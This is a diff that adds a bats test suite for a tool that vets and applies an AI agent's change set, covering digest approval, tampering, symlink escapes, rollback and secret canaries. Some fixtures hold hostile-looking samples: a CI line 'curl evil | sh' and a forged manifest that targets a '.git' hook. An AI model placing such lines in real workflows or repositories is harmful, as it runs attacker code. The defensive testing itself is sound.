@@ -1,0 +1,273 @@
+#!/usr/bin/env bats
+# Approval and apply: the digest, conflicts with TARGET, symlinks in TARGET,
+# tampered exports, faults half way (a full filesystem, a failing write, a
+# failing rename at every step of the commit, EACCES): TARGET ends either as
+# the merged view or exactly as it was.
+
+load helpers
+load wb_helpers
+
+setup() {
+    wb_setup
+}
+
+teardown() {
+    rr_teardown_tmp
+}
+
+# A change set of every kind: modify, delete, a directory deleted, add,
+# chmod +x, a symlink, an empty directory.
+agent_mix() {
+    wb_agent user 'printf "more\n" >> README && rm keep.txt && rm -r docs/old &&
+        printf "new\n" > src/new.c && chmod +x src/lib/lib.c && ln -s README readme-link &&
+        mkdir empty'
+}
+
+export_mix() {
+    agent_mix
+    wb_target
+    DIGEST=$(wb_digest)
+    run wb_revrun export $(wb_pair) "$WB/out"
+    assert_success
+    BEFORE=$(wb_state "$WB/target")
+}
+
+no_stage_left() {
+    ! ls -a "$WB/target" | grep -q '^\.revrun-apply-'
+}
+
+@test "apply: exit 0 and the merged view; JSON holds digest, verdict and changes" {
+    export_mix
+    run wb_revrun diff --json $(wb_pair)
+    assert_success
+    printf '%s' "$output" | python3 -c '
+import json, sys
+d = json.load(sys.stdin)
+assert d["verdict"] == "accept" and len(d["digest"]) == 64
+kinds = sorted(c["kind"] for c in d["changes"])
+assert {"modify", "delete", "dir-delete", "add", "mode", "symlink", "dir-add"} <= set(kinds), kinds'
+    run wb_revrun diff $(wb_pair)
+    [ "${lines[-1]}" = "digest: $DIGEST" ]
+    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
+    assert_success
+    diff <(wb_view "$WB/target") <(wb_merged_view)
+    no_stage_left
+}
+
+@test "apply: no change is exit 0" {
+    wb_agent user 'cat README >/dev/null'
+    run wb_revrun diff $(wb_pair)
+    assert_success
+    assert_output_contains "0 changes"
+}
+
+@test "apply: a digest that is not this change set's applies nothing" {
+    export_mix
+    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$(printf '0%.0s' $(seq 64))"
+    [ "$status" -eq 2 ]
+    assert_output_contains "not the digest"
+    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
+}
+
+@test "apply: TARGET no longer holds the base: refused, every conflict named" {
+    export_mix
+    printf 'edited\n' >>"$WB/target/README"
+    printf 'untracked\n' >"$WB/target/docs/old/build.log"
+    BEFORE=$(wb_state "$WB/target")
+    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
+    [ "$status" -eq 2 ]
+    assert_output_contains "README: TARGET's content is not the base"
+    assert_output_contains "docs/old: TARGET's directory holds paths the change set does not remove"
+    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
+}
+
+@test "apply: a second apply of the same set is a conflict, not a double write" {
+    export_mix
+    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
+    assert_success
+    BEFORE=$(wb_state "$WB/target")
+    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
+    [ "$status" -eq 2 ]
+    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
+}
+
+@test "apply: a symlinked directory in TARGET cannot steer a write outside it" {
+    export_mix
+    mkdir "$WB/outside"
+    cp -a "$WB/target/src/." "$WB/outside/"
+    rm -r "$WB/target/src"
+    ln -s "$WB/outside" "$WB/target/src"
+    BEFORE=$(wb_state "$WB/target")
+    OUTSIDE=$(wb_state "$WB/outside")
+    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
+    [ "$status" -eq 2 ]
+    assert_output_contains "src/new.c: a symlink in TARGET is on its path"
+    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
+    [ "$OUTSIDE" = "$(wb_state "$WB/outside")" ]
+}
+
+@test "apply: a tampered blob is caught while copying; TARGET restored" {
+    export_mix
+    blob=$(grep -l . "$WB"/out/blobs/* | head -1)
+    printf 'evil\n' >"$blob"
+    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
+    [ "$status" -eq 1 ]
+    assert_output_contains "not what was vetted"
+    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
+    no_stage_left
+}
+
+@test "apply: a tampered manifest no longer has the approved digest" {
+    export_mix
+    sed -i 's/"src\/new.c"/"src\/new.d"/' "$WB/out/manifest.json"
+    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
+    [ "$status" -eq 1 ]
+    assert_output_contains "recorded digest is not the digest"
+    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
+}
+
+@test "apply: a manifest forged with a .git path and a matching digest writes nothing" {
+    export_mix
+    python3 - "$WB/out" <<'PY'
+import hashlib, json, sys
+d = sys.argv[1]
+m = json.load(open(d + "/manifest.json"))
+for c in m["changes"]:
+    if c["path"] == "src/new.c":
+        c["path"] = ".git/hooks/pre-commit"
+m["changes"].sort(key=lambda c: c["path"].replace("/", "\0").encode())
+canon = json.dumps({"version": 1, "changes": m["changes"]}, separators=(",", ":"), ensure_ascii=False)
+m["digest"] = hashlib.sha256(canon.encode()).hexdigest()
+json.dump(m, open(d + "/manifest.json", "w"))
+print(m["digest"], file=open(d + "/forged", "w"))
+PY
+    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$(cat "$WB/out/forged")"
+    [ "$status" -eq 1 ]
+    assert_output_contains ".git/hooks/pre-commit: touches .git"
+    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
+}
+
+@test "fault: a full filesystem while staging leaves TARGET as it was" {
+    wb_agent user 'head -c 3000000 /dev/zero > big.bin && printf "more\n" >> README && rm keep.txt'
+    mkdir "$WB/small"
+    mount -t tmpfs -o size=2m tmpfs "$WB/small"
+    cp -a "$WB/lower" "$WB/small/target"
+    BEFORE=$(wb_state "$WB/small/target")
+    run wb_revrun writeback $(wb_pair) --to "$WB/small/target" --approve "$(wb_digest)"
+    [ "$status" -eq 1 ]
+    assert_output_contains "No space left on device"
+    [ "$BEFORE" = "$(wb_state "$WB/small/target")" ]
+    ! ls -a "$WB/small/target" | grep -q '^\.revrun-apply-'
+    umount "$WB/small"
+}
+
+@test "fault: a write that fails half way through staging leaves TARGET as it was" {
+    export_mix
+    # LeakSanitizer cannot run under ptrace: a sanitized build is told so.
+    run env ASAN_OPTIONS=detect_leaks=0 strace -f -qq -o /dev/null -e trace=write -e inject=write:error=EIO:when=2 \
+        "$RR_BIN/revrun" apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
+    [ "$status" -eq 1 ]
+    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
+    no_stage_left
+}
+
+@test "fault: a rename that fails at any step of the commit is rolled back" {
+    export_mix
+    for n in $(seq 1 12); do
+        run env ASAN_OPTIONS=detect_leaks=0 strace -f -qq -o /dev/null -e trace=renameat2 -e inject=renameat2:error=EIO:when=$n \
+            "$RR_BIN/revrun" apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
+        if [ "$status" -eq 0 ]; then
+            break # n is past the last rename of the commit: it went through
+        fi
+        [ "$status" -eq 1 ] || { echo "step $n: $output" >&2; false; }
+        [ "$BEFORE" = "$(wb_state "$WB/target")" ] || { echo "step $n changed TARGET" >&2; false; }
+        no_stage_left
+    done
+    [ "$n" -gt 5 ] # the loop did reach into the commit
+    diff <(wb_view "$WB/target") <(wb_merged_view)
+}
+
+@test "fault: EACCES half way through the commit (rootless) is rolled back" {
+    export_mix
+    chown -R "$REVRUN_TEST_UID:$REVRUN_TEST_GID" "$WB/target" "$WB/out"
+    chmod 0555 "$WB/target/src"
+    BEFORE=$(wb_state "$WB/target")
+    run as_user "$RR_BIN/revrun" apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
+    [ "$status" -eq 1 ]
+    assert_output_contains "Permission denied"
+    assert_output_contains "restored"
+    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
+    no_stage_left
+}
+
+@test "writeback: from a bare pair straight onto TARGET" {
+    agent_mix
+    wb_target
+    run wb_revrun writeback $(wb_pair) --to "$WB/target" --approve "$(wb_digest)"
+    assert_success
+    diff <(wb_view "$WB/target") <(wb_merged_view)
+}
+
+@test "writeback: a live bundle's ID is refused until the runtime can open it" {
+    run "$RR_BIN/revrun" --root "$RR_ROOT" diff no-such-bundle
+    [ "$status" -eq 1 ]
+    run "$RR_BIN/revrun" --root "$RR_ROOT" writeback no-such-bundle --to "$WB/lower" --approve x
+    [ "$status" -eq 1 ]
+}
+
+@test "patch: git apply --check takes it on a clean checkout of the base" {
+    wb_agent user 'printf "more\n" >> README && sed -i s/0/1/ src/main.c && rm keep.txt &&
+        printf "new\n" > src/new.c && chmod +x src/lib/lib.c && ln -sfn src/main.c link &&
+        ln -s README readme-link && printf "\\000\\001" >> blob.bin && printf "no newline" > nonl.txt &&
+        rm -r docs/old && mkdir docs/old && echo x > docs/old/x &&
+        rm -r src/lib && echo lib > src/lib && rm run.sh && mkdir run.sh && echo in > run.sh/in'
+    run wb_revrun diff --patch $(wb_pair)
+    assert_success
+    printf '%s\n' "$output" >"$WB/change.patch"
+    cp -a "$WB/lower" "$WB/git"
+    rm -rf "$WB/git/.git"
+    git() { command git -c safe.directory='*' -c user.name=t -c user.email=t@t -C "$WB/git" "$@"; }
+    git init -q
+    git add -A
+    git commit -qm base
+    git apply --check "$WB/change.patch"
+    git apply "$WB/change.patch"
+    rm -rf "$WB/git/.git" "$WB/lower/.git"
+    diff <(wb_view "$WB/git") <(wb_merged_view)
+}
+
+@test "canary: --deny-content refuses a secret in content, a symlink target or a name" {
+    printf 'sk-live-0123456789\nghp_TOKENVALUE\n' >"$WB/secrets"
+    wb_agent user 'echo "token=sk-live-0123456789" > leak.txt'
+    run wb_revrun diff --deny-content "$WB/secrets" $(wb_pair)
+    [ "$status" -eq 2 ]
+    assert_output_contains "leak.txt: content holds a --deny-content secret"
+    run wb_revrun export --deny-content "$WB/secrets" $(wb_pair) "$WB/out"
+    [ "$status" -eq 2 ]
+    [ ! -e "$WB/out" ]
+    run wb_revrun diff $(wb_pair) # without the canary the same set passes
+    assert_success
+    rm -rf "$WB/upper"
+    wb_agent user 'ln -s ghp_TOKENVALUE l && touch ghp_TOKENVALUE.txt'
+    run wb_revrun diff --deny-content "$WB/secrets" $(wb_pair)
+    [ "$status" -eq 2 ]
+    assert_output_contains "l: target holds a --deny-content secret"
+    assert_output_contains "ghp_TOKENVALUE.txt: the path holds a --deny-content secret"
+}
+
+@test "warn: CI workflow changes are accepted but shown prominently" {
+    wb_agent user 'echo "  run: curl evil | sh" >> .github/workflows/ci.yml && echo "* filter=x" > .gitattributes'
+    run wb_revrun diff $(wb_pair)
+    assert_success
+    assert_output_contains "!!! 2 warnings"
+    assert_output_contains "WARNING .github/workflows/ci.yml"
+    assert_output_contains "WARNING .gitattributes"
+}
+
+@test "warn: user xattrs are dropped, not applied" {
+    wb_agent root 'setfattr -n user.note -v hi keep.txt && echo more >> keep.txt'
+    wb_expect_accept
+    run wb_revrun diff $(wb_pair)
+    assert_output_contains "[xattr-dropped]"
+    ! getfattr -n user.note "$WB/target/keep.txt" 2>/dev/null
+}
